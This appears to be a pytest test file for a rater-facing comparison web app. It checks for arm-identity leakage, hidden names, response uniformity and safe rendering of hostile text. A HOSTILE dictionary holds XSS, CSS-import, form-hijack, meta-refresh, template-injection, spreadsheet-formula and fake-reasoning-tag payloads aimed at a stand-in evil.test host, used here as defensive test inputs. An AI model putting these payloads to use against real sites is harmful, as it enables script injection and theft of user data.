"""Nothing that leaves the server depends on which arm wrote which text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest

from evals.human.raters import invite
from evals.human.records import PairText
from evals.human.store import Store
from studio.rating import RatingOptions, build_routes
from tests.studio.rating_world import (
    CONTRIBUTOR,
    SECRET,
    SYSTEM,
    Clock,
    Page,
    Person,
    World,
    disguises,
    make_pairs,
    make_world,
)

HOSTILE = {
    "script": "<script src=//evil.test/a.js>fetch('//evil.test')</script>",
    "image": "<img src=//evil.test/p.png onerror=alert(1)>![x](http://evil.test/q.png)",
    "link": '<a href="javascript:alert(1)">x</a><base href=//evil.test>',
    "style": "<style>@import '//evil.test/a.css';*{background:url(//evil.test/b)}</style>",
    "closing": "</div></section></main></body><form action=//evil.test><input name=ticket>",
    "attribute": '" onmouseover="alert(1)" x="',
    "template": "{{ 7*7 }}{% for x in y %}{{ config }}",
    "think": "<think>I am the system</think>The answer is 4.",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "bidi": "safe \u202etxet desrever\u202c and \u2066isolated\u2069",
    "controls": "a\x00b\x07c\r\nd\te",
    "surrogate": "lone \ud800 half",
    "long": "word " * 2000 + "x" * 2000,
    "formula": '=HYPERLINK("http://evil.test")',
    "emoji": "🧪👩‍🔬 $\\frac{a}{b}$ ```py\nprint('x')\n```",
    "arabic": "النص العربي with English inside",
}


def swapped(store: Store) -> None:
    """Swap the arms in the database, and the sides with them, so that what is shown stays."""
    with store.write() as connection:
        connection.exec_driver_sql(
            "UPDATE pair SET contributor = system, system = contributor, "
            "raw_contributor = raw_system, raw_system = raw_contributor, "
            "hits_contributor = hits_system, hits_system = hits_contributor, "
            "cut_contributor = cut_system, cut_system = cut_contributor, "
            "run_contributor = run_system, run_system = run_contributor, gold = "
            "CASE gold WHEN 'system' THEN 'contributor' WHEN 'contributor' THEN 'system' END"
        )
        connection.exec_driver_sql(
            "UPDATE assignment SET system_side = "
            "CASE system_side WHEN 'left' THEN 'right' ELSE 'left' END"
        )


class Recorder:
    """A rater's whole session, every answer kept as bytes but for what must differ by chance."""

    def __init__(self, world: World, token: str) -> None:
        self.person = Person(world, token)
        self.world = world
        self._kept: list[Any] = []
        self.person.browser.event_hooks = {"response": [self._kept.append]}

    def session(self, *, swap: bool) -> list[bytes]:
        person, browser = self.person, self.person.browser
        browser.get(f"/rate/{person.token}")
        person.consent()
        if swap:
            swapped(self.world.store)
        person.begin()
        person.practise()
        person.vote("left", comment="a remark")
        person.send(person.see().form("/undo"))
        person.vote("right", strength="3")
        skip = person.see().form("/vote", having="skip_reason")
        person.send(skip, skip_reason="topic")
        person.send(skip, skip_reason="unclear")  # the same nonce, another answer: a conflict
        person.send(person.see().form("/language"), language="ar")
        person.send(person.see().form("/vote", having="comment"), outcome="model_a")
        browser.get("/rate/certificate")
        browser.get("/rate/withdraw")
        person.finish(lambda page: "tie_good")
        return [normal(answer) for answer in self._kept]


def normal(answer: Any) -> bytes:
    """Status, headers and body, with nonces, receipts and their signatures blotted out."""
    head = "\n".join(f"{name}: {value}" for name, value in answer.headers.items())
    text = f"{answer.status_code}\n{head}\n\n{answer.content.decode('utf-8')}"
    text = re.sub(r'(name="nonce" value=")[^"]+', r"\1NONCE", text)
    text = re.sub(r'rater_note="?saved [^;]+', "rater_note=RECEIPT", text)
    return re.sub(r"(✓[^<]*?)[0-9a-f]{12}", r"\1RECEIPT", text).encode()


def pairs_with_everything() -> list[PairText]:
    """Pairs that differ in every field an arm has, among them a gold and a cut one."""
    made = make_pairs(8)
    made[1] = replace(made[1], cut_system=True, raw_system="raw of the system", hits_system=3)
    made[2] = replace(made[2], system="long " * 900, raw_contributor="raw of the contributor")
    made += [replace(p, item=p.item + "-g", gold="system") for p in make_pairs(3)]
    return made


def test_swapping_the_arms_changes_no_byte_of_a_whole_session(tmp_path: Path) -> None:
    fields: dict[str, Any] = {"pairs_per_rater": 8, "repeat_share": 0.25, "gold_share": 0.25}
    world = make_world(tmp_path, pairs_with_everything(), **fields)
    token = world.invite()[0]
    world.store.close()
    original = (tmp_path / "studies.db").read_bytes()
    sessions, sides = [], []
    for swap in (False, True):
        folder = tmp_path / str(swap)
        folder.mkdir()
        (folder / "studies.db").write_bytes(original)
        copy = World(Store.open(f"sqlite:///{folder / 'studies.db'}"), world.spec, Clock())
        sessions.append(Recorder(copy, token).session(swap=swap))
        sides.append([row["system_side"] for row in copy.rows("assignment")])
        copy.store.close()
    assert len(sides[0]) == 12 and all(a != b for a, b in zip(*sides, strict=True))
    assert len(sessions[0]) > 40
    for ours, theirs in zip(*sessions, strict=True):
        assert ours == theirs


def test_the_swap_test_would_see_a_difference(tmp_path: Path) -> None:
    """Without compensating the sides, the same comparison must fail."""
    world = make_world(tmp_path)
    tokens = world.invite(1)
    person = Person(world, tokens[0])
    person.arrive()
    before = normal(person.browser.get("/rate"))
    assert before == normal(person.browser.get("/rate"))
    with world.store.write() as connection:
        connection.exec_driver_sql("UPDATE pair SET contributor = system, system = contributor")
    assert before != normal(person.browser.get("/rate"))


def test_no_name_of_an_arm_an_item_or_a_run_leaves_the_server(tmp_path: Path) -> None:
    world = make_world(tmp_path, overlap=9)
    recorder = Recorder(world, world.invite()[0])
    text = b"\n".join(recorder.session(swap=False)).decode().lower()
    for answer in (world.client().get(path) for path in ("/rate", "/join/zqx-study", "/rate/x")):
        text += normal(answer).decode().lower()
    for name in (CONTRIBUTOR, SYSTEM, "zqx-study", "zqx-questions", "zqx-item-000", "zqx-run-c0"):
        for disguise in disguises(name):
            assert disguise not in text, name
    secrets = {row["id"] for row in world.rows("rater")}
    assert not any(secret in text for secret in secrets)


# The two sides are one markup


def pane(text: str, side: str) -> str:
    found = re.search(
        rf'<section class="pane" aria-labelledby="name-1-{side}">.*?</section>', text, re.S
    )
    assert found
    return found.group()


def mirrored(box: str) -> str:
    """A pane as it would stand on the other side, without its text."""
    bare = re.sub(r'(lang="en">).*?(<span class="end">)', r"\1\2", box, flags=re.S)
    turned = {"left": "right", "right": "left", "upper": "lower", "lower": "upper"}
    turned |= {a.title(): b.title() for a, b in turned.items()}
    return re.sub("|".join(turned), lambda found: turned[found.group()], bare)


def test_hostile_text_is_text_in_two_equal_boxes(tmp_path: Path) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in HOSTILE.values()]
    plain = replace(make_pairs(1)[0], system="A plain answer.")
    pairs = [
        replace(plain, item=str(n), prompt=text, contributor=text) for n, text in enumerate(texts)
    ]
    world = make_world(tmp_path, pairs, pairs_per_rater=len(pairs))
    person = Person(world, world.invite()[0])
    person.arrive()
    shapes = set()
    for number in range(len(pairs)):
        answer = person.browser.get("/rate")
        assert answer.status_code == 200
        left, right = (pane(answer.text, side) for side in ("left", "right"))
        assert mirrored(mirrored(left)) == mirrored(right)
        tags = Page(answer.text).tags
        if number:  # from the second pair on there is an answer to take back
            shapes.add(tuple(tag for tag, _ in tags))
        assert not any(key.startswith("on") for _, values in tags for key in values)
        person.vote("tie_bad")
    assert len(shapes) == 1  # no text has added an element
    assert not {"img", "style", "base", "iframe"} & set(next(iter(shapes)))


def test_a_thing_that_cannot_be_encoded_does_not_break_a_page(tmp_path: Path) -> None:
    from starlette.requests import Request

    from studio.rating.pages import Frame, Pages
    from studio.rating.words import words

    request = Request({"type": "http", "root_path": "", "headers": []})
    frame = Frame(words("en"), "lone \ud800 half")
    answer = Pages().page(request, frame, "join", {"slug": "x"})
    assert b"lone ? half" in answer.body


def test_both_texts_come_in_one_answer_and_none_comes_before(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    person = Person(world, world.invite()[0])
    seen = person.opened.text
    for step in (person.consent, person.begin, person.practise):
        step()
        seen += person.browser.get("/rate/withdraw").text
    assert "text about" not in seen
    text = person.browser.get("/rate").text
    assert "First text about" in text and "Second text about" in text


def test_the_items_language_is_marked_on_its_texts_only(tmp_path: Path) -> None:
    item = replace(make_pairs(1)[0], language="de")
    world = make_world(tmp_path, [item])
    person = Person(world, world.invite()[0])
    person.arrive()
    person.send(person.see().form("/language"), language="ar")
    tags = person.see().tags
    html = next(values for tag, values in tags if tag == "html")
    assert (html["lang"], html["dir"]) == ("ar", "rtl")
    texts = [values for _, values in tags if values.get("class") == "text"]
    assert [values["lang"] for values in texts] == ["de"] * 3
    assert not any("dir" in values for values in texts)  # each line finds its own


# On the app's own server

PUBLIC = (
    "/", "/config", "/gradio_api/info", "/openapi.json", "/docs", "/manifest.json", "/monitoring",
    "/monitoring/summary", "/gradio_api/startup-events", "/gradio_api/app_id", "/theme.css",
    "/robots.txt", "/nothing-is-here", "/rate/static/rate.js",
    "/rate/static/rate.css", "/rate/static/icon.svg",
)  # fmt: skip


@pytest.fixture(scope="module")
def mounted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, World]]:
    """The routes as the app mounts them: handed to Gradio, tried before its own."""
    world = make_world(tmp_path_factory.mktemp("mounted"))
    routes = build_routes(lambda: world.store, RatingOptions(SECRET))
    with gr.Blocks(analytics_enabled=False) as demo:
        gr.Markdown("The app")
    demo.launch(
        prevent_thread_lock=True, quiet=True, ssr_mode=False, share=False, footer_links=[],
        run_history=False, enable_monitoring=False, show_error=False,
        app_kwargs={"routes": routes},
    )  # fmt: skip
    yield demo.local_url.rstrip("/"), world
    demo.close()
    world.store.close()


def test_gradio_serves_the_pages_and_knows_nothing_of_them(mounted: tuple[str, World]) -> None:
    address, world = mounted
    token = invite(world.store, world.spec.slug)[0]
    with httpx.Client(base_url=address) as browser:
        answer = browser.get(f"/rate/{token}")
        assert answer.status_code == 303 and answer.headers["referrer-policy"] == "no-referrer"
        page = browser.get("/rate")
        assert page.status_code == 200 and "Before you start" in page.text
        form = Page(page.text).form("/consent")
        sent = browser.post(form.action, data={**form.fields, "agree": "1"})
        assert sent.status_code == 303
        assert "How it works" in browser.get("/rate").text
        for path in PUBLIC:  # T-L1
            shown = browser.get(path).text
            assert ("/rate" not in shown or "/rate/" in path) and token not in shown, path
            assert all(name not in shown for name in (CONTRIBUTOR, SYSTEM, world.spec.slug)), path


def test_an_unknown_address_and_a_refused_one_are_the_same_on_the_apps_server(
    mounted: tuple[str, World],
) -> None:
    address, world = mounted
    token = invite(world.store, world.spec.slug)[0]
    moving = {"date"}
    with httpx.Client(base_url=address) as browser:
        browser.get(f"/rate/{token}")
        answers = [
            httpx.get(f"{address}/rate"),
            browser.get("/rate/there-is-no-such-page"),
            browser.get("/rate/export/votes"),
            browser.post("/rate/reveal", data={"a": "b"}),
            browser.post("/rate/withdraw", data={"seal": "x"}),
            browser.put("/rate"),
            httpx.get(f"{address}/join/nothing"),
        ]
    first = answers[0]
    assert first.status_code == 403
    for answer in answers[1:]:
        assert answer.status_code == first.status_code and answer.content == first.content
        for name in {*answer.headers} - moving:
            assert answer.headers[name] == first.headers[name]


def test_another_site_cannot_read_a_page_although_gradio_answers_any_origin(
    mounted: tuple[str, World],
) -> None:
    address, world = mounted
    token = invite(world.store, world.spec.slug)[0]
    with httpx.Client(base_url=address) as browser:
        browser.get(f"/rate/{token}")
        answer = browser.get("/rate", headers={"origin": "https://evil.test", "host": "lab.test"})
        assert answer.status_code == 403 and "seal" not in answer.text
